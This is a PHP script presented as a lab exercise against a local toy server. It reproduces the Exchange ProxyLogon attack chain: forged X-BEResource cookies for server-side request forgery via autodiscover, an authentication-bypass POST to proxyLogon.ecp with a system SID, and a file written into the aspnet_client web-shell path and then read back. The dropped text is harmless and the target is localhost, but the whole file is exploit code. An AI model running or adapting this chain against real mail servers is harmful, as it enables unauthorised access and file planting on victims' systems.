<?php
/*
 * Lab chain without extensions: file_get_contents + stream contexts, every value named once.
 * Talks to the toy server on 127.0.0.1 only.
 */

define('UA_MAJOR', 88);
define('UA_BUILD', 4324);
define('UA_PATCH', 190);
const KIT = '537.36';
const FILL_CHAR = 'A';
const FILL_LEN = 37;
const NOTE_NO = 91453;
const TICKET_NO = 1843073522;
const REQ_DAY = '20200302';
const REQ_NO = 7720;
const LAB_DOMAIN = 'lab.invalid';

$agent = sprintf(
    'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/%s (KHTML, like Gecko) Chrome/%d.0.%d.%d Safari/%s',
    KIT, UA_MAJOR, UA_BUILD, UA_PATCH, KIT
);
$notePath = sprintf('/aspnet_client/system_web/readme_%d.txt', NOTE_NO);
$admin = 'administrator@' . LAB_DOMAIN;
$root = 'http://127.0.0.1:' . ($argv[1] ?? '8080');

function call(string $method, string $url, array $headers, string $content = ''): array
{
    $lines = [];
    foreach ($headers as $name => $value) {
        $lines[] = "$name: $value";
    }
    $ctx = stream_context_create(['http' => [
        'method' => $method,
        'header' => implode("\r\n", $lines),
        'content' => $content,
        'timeout' => 10,
        'ignore_errors' => true,
    ]]);
    $body = @file_get_contents($url, false, $ctx);
    preg_match('#HTTP/\S+ (\d{3})#', $http_response_header[0] ?? '', $m);
    return [(int) ($m[1] ?? 0), (string) $body];
}

$common = [
    'User-Agent' => $agent,
    'x-requested-with' => 'XMLHttpRequest',
    'Accept' => '*/*',
    'accept-language' => 'en-US,en;q=0.9',
    'connection' => 'close',
];

$backend = sprintf('localhost@%s/ews/exchange.asmx?a%%3D~%d', LAB_DOMAIN, TICKET_NO);
$query = http_build_query([
    'Pad' => str_repeat(FILL_CHAR, FILL_LEN),
    'Protocol' => 'Autodiscoverv1',
    'Email' => $admin . '/mapi/nspi',
    'RequestId' => sprintf('%s-%d', REQ_DAY, REQ_NO),
]);
$withCookie = $common;
$withCookie['cookie'] = 'X-AnonResource=true; X-AnonResource-Backend=' . LAB_DOMAIN . '; X-BEResource=' . $backend;
[$code] = call('GET', $root . '/autodiscover/autodiscover.json?' . $query, $withCookie);
if ($code >= 500) {
    exit(1);
}

$payload = sprintf('{"mailbox": "%s", "requestKind": "identity", "seq": 1}', $admin);
[$code, $reply] = call('POST', $root . '/ecp/proxyLogon.ecp', [
    'user-agent' => $agent,
    'msexchlogonmailbox' => 'S-1-5-20',
    'content-type' => 'application/json',
    'X-BEResource' => sprintf('localhost@%s/ecp/proxyLogon.ecp', LAB_DOMAIN),
], $payload);
$who = ($code === 200 && trim($reply) !== '') ? trim($reply) : 'anonymous';

$text = implode("\n", array_map(static fn (int $i): string => sprintf('note %d of 3 for %s', $i, $who), [1, 2, 3]));
call('POST', $root . $notePath, [
    'user-agent' => $agent,
    'X-Note-Path' => $notePath,
    'Content-Type' => 'text/plain',
], $text);
[$code, $back] = call('GET', $root . $notePath, $common);
printf("%d\n", $code === 404 ? 0 : strlen($back));
